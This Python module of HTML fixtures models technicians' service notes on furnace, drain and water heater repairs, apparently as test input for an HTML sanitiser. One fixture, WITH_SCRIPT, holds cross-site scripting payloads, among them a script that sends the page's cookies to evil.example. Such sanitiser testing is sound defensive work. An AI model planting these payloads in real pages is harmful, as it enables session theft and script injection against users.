"""What technicians write when the work is done, as careless with HTML as they are."""

from typing import Final

NO_HEAT: Final = (
    "<p>Furnace was locking out on <b>flame failure</b>.</p>"
    "<p>Replaced hot surface ignitor, cleaned flame sensor.<br>"
    "Ran three full cycles &amp; checked CO: <b>0 ppm</b>.</p>"
)
NO_COOL: Final = (
    "<p>Condenser fan not starting.<br/>Run capacitor tested at 21 MFD (rated 45).</p>"
    "<p>Replaced capacitor, rinsed coil. Supply air 56 F at the register.</p>"
)
TUNE_UP: Final = (
    "<ul><li>Checked refrigerant charge</li><li>Cleaned drain line</li>"
    "<li>Replaced media filter</li></ul><p>System is in <i>good</i> order.</p>"
)
DRAIN: Final = (
    "<p>Kitchen line backing up. Cabled main to 60 ft, pulled back roots.</p>"
    "<p>Camera shows clear flow to the street. Recommend yearly clearing.</p>"
)
WATER_HEATER: Final = (
    "<p>Removed leaking 40 gal tank, set new <b>50 gal</b> tank on pan.<br>"
    "New shut-off, expansion tank and vent connector. No leaks at 65 psi.</p>"
)
ELECTRICAL: Final = (
    "<p>Kitchen circuit tripping under load. Replaced breaker with 20 A AFCI.<br>"
    "Labelled the panel; <u>all circuits tested</u>.</p>"
)
INSTALL: Final = (
    "<p>Day 1: set furnace and evaporator coil, sealed plenum.<br>"
    "Day 2: line set, charge by weight, start-up, walk-through with owner.</p>"
)
ESTIMATE_VISIT: Final = "<p>Measured the home, left three options. Nothing was repaired today.</p>"

WITH_SCRIPT: Final = (
    '<p onclick="alert(1)">Cleared condensate drain.</p>'
    "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    '<p>Trap primed. <img src="x" onerror="alert(2)">'
    '<a href="javascript:alert(3)">Photos</a></p>'
)
FROM_WORD: Final = (
    '<p class="MsoNormal" style="margin:0in;font-size:11.0pt"><span style="mso-spacerun:yes">'
    "&nbsp; </span>Replaced PRV<o:p></o:p></p><!--[if gte mso 9]><xml><w:View>Normal</w:View>"
    "</xml><![endif]--><p>House pressure now 62 psi<p>Advised on <B>expansion tank"
)
WITH_PRIVATE_REMARK: Final = (
    "<p>Reset breaker, tested outlets.</p><p>(private: collect before next visit)</p>"
)
